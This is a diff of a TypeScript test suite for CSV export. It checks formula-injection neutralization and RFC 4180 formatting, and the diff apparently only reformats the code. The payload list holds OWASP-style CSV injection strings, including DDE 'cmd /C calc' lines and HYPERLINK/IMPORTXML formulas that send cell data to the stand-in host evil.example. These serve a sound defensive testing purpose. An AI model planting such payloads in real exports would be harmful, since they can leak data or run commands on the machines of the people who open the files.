@@ -10,11 +10,11 @@ const lines = (v: string) => v.split(/\r\n|\r|\n/);
 /** Payloads from OWASP's CSV-injection page and common DDE/hyperlink variants. */
 const OWASP_PAYLOADS = [
   "=cmd|' /C calc'!A0",
-  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
   "+1+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
   "@SUM(1+9)*cmd|' /C calc'!A0",
-  "=1+2\";=1+2",
+  '=1+2";=1+2',
   "=1+2'\" ;,=1+2",
   "\t=1+1",
   "\r=1+1",
@@ -25,10 +25,10 @@ const OWASP_PAYLOADS = [
   "\uFF0B1+1",
   "\uFF0D1+1",
   "\uFF20SUM(A1)",
-  "María\n=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
+  'María\n=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
   "ok\r\n+cmd",
-  "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
-  "@HYPERLINK(\"http://evil.example\")",
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  '@HYPERLINK("http://evil.example")',
 ];
 
 describe("formula-injection neutralization (OWASP)", () => {
@@ -44,7 +44,28 @@ describe("formula-injection neutralization (OWASP)", () => {
   });
 
   it("no line of any cell can start a formula, and only apostrophes are added (property)", () => {
-    const alphabet = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", " ", "\u3000", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "a", "1", "'", '"', ",", "é", "李");
+    const alphabet = fc.constantFrom(
+      "=",
+      "+",
+      "-",
+      "@",
+      "\t",
+      "\r",
+      "\n",
+      " ",
+      "\u3000",
+      "\uFF1D",
+      "\uFF0B",
+      "\uFF0D",
+      "\uFF20",
+      "a",
+      "1",
+      "'",
+      '"',
+      ",",
+      "é",
+      "李",
+    );
     fc.assert(
       fc.property(fc.oneof(fc.string({ unit: alphabet }), fc.string({ unit: "grapheme" })), (value) => {
         const safe = neutralizeCell(value);
@@ -66,19 +87,34 @@ describe("formula-injection neutralization (OWASP)", () => {
 
 describe("CSV files (RFC 4180)", () => {
   it("starts with a BOM, ends records with CRLF, quotes only what needs it, keeps numbers numeric", () => {
-    expect(toCsv(["Name", "Revenue (USD)"], [["x,\"y\"", 25.5], ["Zoë", 0], [null, 12]])).toBe(
-      `${CSV_BOM}Name,Revenue (USD)\r\n"x,""y""",25.5\r\nZoë,0\r\n,12\r\n`,
-    );
+    expect(
+      toCsv(
+        ["Name", "Revenue (USD)"],
+        [
+          ['x,"y"', 25.5],
+          ["Zoë", 0],
+          [null, 12],
+        ],
+      ),
+    ).toBe(`${CSV_BOM}Name,Revenue (USD)\r\n"x,""y""",25.5\r\nZoë,0\r\n,12\r\n`);
   });
 
   it("round-trips any table through a strict RFC 4180 parser (property)", () => {
-    const cell: fc.Arbitrary<Cell> = fc.oneof(fc.string({ unit: "grapheme" }), fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null));
+    const cell: fc.Arbitrary<Cell> = fc.oneof(
+      fc.string({ unit: "grapheme" }),
+      fc.integer(),
+      fc.double({ noNaN: true, noDefaultInfinity: true }),
+      fc.constant(null),
+    );
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 20 }), (rows) => {
         const text = toCsv(["a", "b", "c"], rows);
         expect(text.startsWith(CSV_BOM)).toBe(true);
         const parsed: string[][] = parse(text.slice(1), { relax_quotes: false, relax_column_count: false, record_delimiter: "\r\n" });
-        expect(parsed).toEqual([["a", "b", "c"], ...rows.map((r) => r.map((c) => (c === null ? "" : typeof c === "number" ? String(c) : neutralizeCell(c))))]);
+        expect(parsed).toEqual([
+          ["a", "b", "c"],
+          ...rows.map((r) => r.map((c) => (c === null ? "" : typeof c === "number" ? String(c) : neutralizeCell(c)))),
+        ]);
       }),
       { numRuns: 500 },
     );
@@ -86,6 +122,11 @@ describe("CSV files (RFC 4180)", () => {
 
   it("formats a batch with no header or BOM for streaming", () => {
     expect(csvRecords([])).toBe("");
-    expect(csvRecords([["=1", "-2"], [3, null]])).toBe("'=1,'-2\r\n3,\r\n");
+    expect(
+      csvRecords([
+        ["=1", "-2"],
+        [3, null],
+      ]),
+    ).toBe("'=1,'-2\r\n3,\r\n");
   });
 });
